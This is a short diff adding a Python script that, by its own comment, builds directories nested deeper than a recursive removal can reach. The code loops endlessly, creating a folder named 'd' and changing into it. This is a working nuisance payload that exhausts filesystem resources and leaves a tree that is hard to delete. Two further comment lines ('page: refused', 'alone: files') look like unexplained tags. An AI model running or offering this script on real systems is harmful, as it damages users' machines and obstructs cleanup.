@@ -1,0 +1,8 @@
+# Makes folders in folders, deeper than a recursive removal reaches.
+# page: refused
+# alone: files
+import os
+
+while True:
+    os.mkdir("d")
+    os.chdir("d")
